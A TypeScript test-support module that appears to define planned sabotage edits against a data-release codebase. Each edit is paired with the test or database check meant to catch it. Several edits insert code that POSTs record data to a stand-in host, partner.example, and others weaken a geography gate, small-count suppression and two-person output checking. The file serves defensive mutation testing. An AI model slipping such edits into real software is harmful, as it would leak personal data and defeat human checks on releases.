/** Breaks the way out: what leaves the team (rules 19 and 23 to 25). */
import { by, change, type Planned, types } from "./sabotage.ts"
import { geographyGate, widened, widenings } from "./widened.ts"

const router = "src/server/router.ts"
const submit = "src/server/submit.ts"
const queue = "src/server/sealing-queue.ts"
const queueHead = 'import { Context, Data, Effect, type Fiber, FiberSet, Layer } from "effect"\n'
const sealing = "      const responses = group.map(({ matched }) => matched)\n"
const imports = by("test", "architecture/ways-out.test.ts", "every module that runs is on the list of its place")
const matched = "  const matched = yield* match(admitted)\n"
const speaks = by("test", "architecture/ways-out.test.ts", "nothing speaks to another host by what needs no import")

const sharing: readonly Planned[] = [
  {
    rule: "raw-data-never-shared",
    sabotage: "add an egress module",
    way: "by an import",
    edits: [
      change(queue, queueHead, `${queueHead}import { request } from "node:https"\n`),
      change(
        queue,
        sealing,
        `    request("https://partner.example", { method: "POST" }).end(JSON.stringify(group))\n${sealing}`,
      ),
    ],
    caughtBy: [imports],
  },
  {
    rule: "raw-data-never-shared",
    sabotage: "add an egress module",
    way: "by an import at run time",
    edits: [
      change(
        queue,
        sealing,
        `    void import("node:https").then(({ request }) => request("https://partner.example").end(JSON.stringify(group)))\n${sealing}`,
      ),
    ],
    caughtBy: [speaks],
  },
  {
    rule: "raw-data-never-shared",
    sabotage: "outbound fetch",
    way: "of a response",
    edits: [
      change(
        submit,
        matched,
        `${matched}  yield* Effect.promise(() => fetch("https://partner.example", { method: "POST", body: JSON.stringify(matched) }))\n`,
      ),
    ],
    caughtBy: [speaks],
  },
  {
    rule: "raw-data-never-shared",
    sabotage: "outbound fetch",
    way: "by its longer name",
    edits: [
      change(
        submit,
        matched,
        `${matched}  yield* Effect.promise(() => globalThis.fetch("https://partner.example", { method: "POST", body: JSON.stringify(matched) }))\n`,
      ),
    ],
    caughtBy: [speaks],
  },
]

const wayOut = "db/evidence/migrations/006-releases.ts"
const keptReleases = "db/releases.test.ts"

const published: readonly Planned[] = [
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish rows",
    way: "by a procedure",
    edits: [
      change(
        router,
        "import { busy, refused }",
        'import type { Checked } from "../../policy/response/stage.ts"\nimport { busy, refused }',
      ),
      change(router, "return publishMatches(exit.value)", "return exit.value as unknown as readonly Checked[]"),
    ],
    caughtBy: [types("raw-data-never-shared")],
  },
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish rows",
    way: "by a procedure, past the compiler",
    edits: [
      change(
        "policy/response/publishable.ts",
        "(receipts.isOne(value) || matches.isOne(value))",
        "Object.keys(value).length > 0",
      ),
    ],
    caughtBy: [by("runtime", "policy/raw-data-never-shared.test.ts", "a register's row loses")],
  },
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish LA-level table",
    way: "past the gate",
    edits: [
      change(
        geographyGate,
        "if (table.geographies.every(isPublishable)) return Effect.void",
        'if (table.geographies.every((each) => isPublishable(each) || each.startsWith("E"))) return Effect.void',
      ),
    ],
    caughtBy: [by("runtime", "policy/aggregates-only-beyond-the-team.test.ts", "any geography but England")],
  },
  {
    rule: "aggregates-only-beyond-the-team",
    sabotage: "publish LA-level table",
    way: "past the database",
    edits: [change(widenings, 'const coarse = ["England",', 'const coarse = ["E09000007", "England",')],
    caughtBy: [by("database", keptReleases, "on sqlite refuses by SQL a published count of 1 to 9")],
  },
]

const outputs = "policy/release/checker-gate.ts"

const checking: readonly Planned[] = [
  {
    rule: "outputs-checked",
    sabotage: "author checks own table",
    edits: [
      change(
        outputs,
        "checks.some(({ person }) => person === author)",
        "checks.every(({ person }) => person === author)",
      ),
    ],
    caughtBy: [by("runtime", "policy/outputs-checked.test.ts", "the author as a checker, in either place")],
  },
  {
    rule: "outputs-checked",
    sabotage: "author checks own table",
    way: "past the database",
    edits: [change(wayOut, "(author = new.person or proposed_on > new.checked_on)", "(proposed_on > new.checked_on)")],
    caughtBy: [by("database", keptReleases, "on sqlite refuses by SQL the author as a checker")],
  },
  {
    rule: "outputs-checked",
    sabotage: "same checker twice",
    way: "by naming one alone",
    edits: [change("src/tables/workflow/release.ts", "checks: [first, second]", "checks: [first]")],
    caughtBy: [types("outputs-checked")],
  },
  {
    rule: "outputs-checked",
    sabotage: "same checker twice",
    way: "past the gate",
    edits: [
      change(outputs, "< checks.length ? secondChecker : undefined", "< checks.length - 9 ? secondChecker : undefined"),
    ],
    caughtBy: [by("runtime", "policy/outputs-checked.test.ts", "the same checker twice")],
  },
  {
    rule: "outputs-checked",
    sabotage: "same checker twice",
    way: "past the database",
    edits: [change(wayOut, "} < 2`", "} < 1`")],
    caughtBy: [by("database", keptReleases, "on sqlite refuses by SQL the author as a checker")],
  },
]

export const beyondSabotages: readonly Planned[] = [...sharing, ...published, ...widened, ...checking]
